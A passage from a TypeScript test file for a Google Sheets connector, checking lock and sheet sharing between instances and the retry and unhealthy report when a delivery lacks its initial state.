    // One writer per spreadsheet, and rows one instance wrote are known to the other.
    expect(one.lock).toBe(two.lock);
    expect(one.sheet).toBe(two.sheet);
    fake.createSpreadsheet("1Other", { sheets: ["Loyalty"] });
    const other = await init(configFor(fake, { spreadsheetId: "1Other" }));
    expect(other.lock).not.toBe(one.lock);
    expect(other.sheet).not.toBe(one.sheet);
  });

  it("retries, and reports itself unhealthy, when a delivery comes without the state init returned", async () => {
    const fake = await fakeGoogle();
    const { state: _, ...ctx } = context(await start(configFor(fake)));
    const error = await googleSheetsConnector
      .deliver(
        [item("loyalty.addPoints")],
        ctx as unknown as Parameters<typeof googleSheetsConnector.deliver>[1],
      )
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RetryableError);
    expect((error as Error).message).toMatch(/without the state init returned/);
    expect(ctx.health.unhealthy).toHaveBeenCalledWith((error as Error).message);
    expect(appends(fake)).toHaveLength(1);
  });
});
